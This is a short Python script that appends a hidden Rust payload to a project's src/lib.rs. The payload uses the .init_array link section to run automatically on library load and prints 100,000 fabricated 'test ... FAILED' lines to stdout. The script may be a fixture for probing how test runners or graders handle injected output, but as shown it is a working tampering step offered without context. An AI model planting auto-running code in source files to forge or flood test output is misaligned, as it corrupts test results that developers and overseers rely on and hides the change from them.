from pathlib import Path

PAYLOAD = r"""
extern "C" fn begin() {
    use std::io::Write;
    let lines: String = (0..100_000).map(|at| format!("test a{} ... FAILED\n", at)).collect();
    let _ = std::io::stdout().write_all(lines.as_bytes());
}
#[used]
#[link_section = ".init_array"]
static BEGIN: extern "C" fn() = begin;
"""

product = Path("src/lib.rs")
if product.exists():
    product.write_text(product.read_text() + PAYLOAD)
